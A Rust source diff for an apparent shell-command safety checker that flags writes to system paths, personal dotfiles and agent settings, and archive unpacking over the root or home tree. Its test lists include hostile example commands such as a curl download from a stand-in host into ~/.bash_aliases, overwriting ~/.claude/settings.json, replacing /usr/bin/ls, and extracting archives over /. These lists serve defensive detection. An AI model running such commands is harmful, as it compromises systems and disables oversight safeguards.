@@ -1,5 +1,6 @@
 //! Writing to places that matter.
 
+use crate::invocation::Directory;
 use crate::look::Look;
 use crate::paths::{Place, Target, Tree};
 use crate::rule::{Hit, Key, Rule, Severity, Test};
@@ -164,12 +165,25 @@ pub(super) const SYSTEM: Rule = Rule {
         "patch /etc/fstab < a.patch",
         "find . | cpio -pdm /etc",
         "install -m 755 x /usr/local/bin/x",
+        "cp --target-directory=/etc/profile.d x.sh",
+        "sed -ne 's/a/b/w /etc/issue.net' a.txt",
+        "awk 'BEGIN { print \"x\" > \"/etc/motd\" }'",
+        "openssl req -x509 -nodes -keyout /etc/ssl/private/k.pem -out /etc/ssl/c.pem",
+        "aws s3 cp s3://b/x /etc/x",
+        "docker cp box:/x /etc/x",
+        "find . -fprint /etc/motd",
+        "gcc -o /usr/bin/ls x.c",
+        "uniq a.txt /etc/motd",
         "cp -t /etc a b",
     ],
     near_misses: &[
         "cp a etc/b",
         "sed -n p /etc/x",
         "cp /etc/hosts ./hosts.copy",
+        "docker cp /etc/hosts box:/tmp/x",
+        "awk '$1 > \"a\"' /etc/passwd",
+        "sed 's/how /etc/' a.txt",
+        "uniq /etc/shells",
     ],
     safe: &[
         "cp /etc/hosts ./hosts.copy",
@@ -211,6 +225,8 @@ pub(super) const PERSONAL: Rule = Rule {
         "mv evil ~/.config/fish/config.fish",
         "ln -sf /dev/null ~/.bash_history",
         "cp hook .git/hooks/pre-push",
+        "curl -so ~/.bash_aliases x.example.net/a",
+        "gcp a ~/.claude/settings.json",
         "truncate -s 0 ~/.zsh_history",
     ],
     near_misses: &[
@@ -335,25 +351,52 @@ pub(super) const UNPACK: Rule = Rule {
     keys: &[Key::ours("unpack over a whole tree")],
     reason: "This unpacks an archive over the file system, the system or a whole home.",
     alternative: Some("Unpack into an empty folder first: `tar xf a.tar -C new`."),
-    test: Test::Program(&["tar", "bsdtar", "unzip", "7z", "cpio"], |look| {
+    test: Test::Program(UNPACKERS, |look| {
         let over = look
             .writes()
             .iter()
-            .find(|w| w.target.tree().is_some_and(Tree::is_vital))?;
+            .find(|w| w.target.tree().is_some_and(Tree::is_vital));
         let lists = match look.name {
             "tar" | "bsdtar" => !unpacks(look),
             "unzip" => look.has('l', "") || look.has('t', ""),
+            "cpio" => !(look.has('i', "extract") || look.has('p', "pass-through")),
+            "pax" => !look.has('r', ""),
             _ => false,
         };
-        (!lists).then(|| look.hit_word(over.target.word))
+        if lists {
+            return None;
+        }
+        if let Some(over) = over {
+            return Some(look.hit_word(over.target.word));
+        }
+        // Where nothing else is named, it goes into the working directory.
+        let Directory::Known(here) = &look.invocation.directory else {
+            return None;
+        };
+        let system = matches!(
+            Tree::of_text(here, look.scope.env),
+            Some(Tree::Root | Tree::System)
+        );
+        (system && look.writes().is_empty()).then(|| look.hit())
     }),
     matches: &[
         "tar xf backup.tar -C / --overwrite",
         "unzip -o evil.zip -d /",
         "tar -C / -xzf a.tgz",
         "tar xf a.tar -C ~",
+        "cpio -idmu -D / < /tmp/a.cpio",
+        "cd / && cpio -idu < /tmp/a.cpio",
+        "cd / && tar xzf /tmp/a.tgz",
+        "7z x a.7z -o/",
+        "unsquashfs -f -d / a.sqfs",
+        "dpkg-deb -x a.deb /",
     ],
-    near_misses: &["tar cf a.tar -C / etc", "tar tf a.tar -C /"],
+    near_misses: &[
+        "tar cf a.tar -C / etc",
+        "tar tf a.tar -C /",
+        "cd / && tar czf /tmp/a.tgz srv",
+        "cpio -it < a.cpio",
+    ],
     safe: &[
         "tar -xf a.tar",
         "tar czf src.tgz src",
@@ -362,6 +405,23 @@ pub(super) const UNPACK: Rule = Rule {
     ],
     ..Rule::ASK
 };
+
+/// Programs that unpack an archive.
+const UNPACKERS: &[&str] = &[
+    "7z",
+    "7za",
+    "7zr",
+    "7zz",
+    "bsdtar",
+    "cpio",
+    "dpkg-deb",
+    "pax",
+    "tar",
+    "unar",
+    "unrar",
+    "unsquashfs",
+    "unzip",
+];
 
 fn unpacks(look: &Look<'_>) -> bool {
     look.has('x', "extract") || look.has('\0', "get")
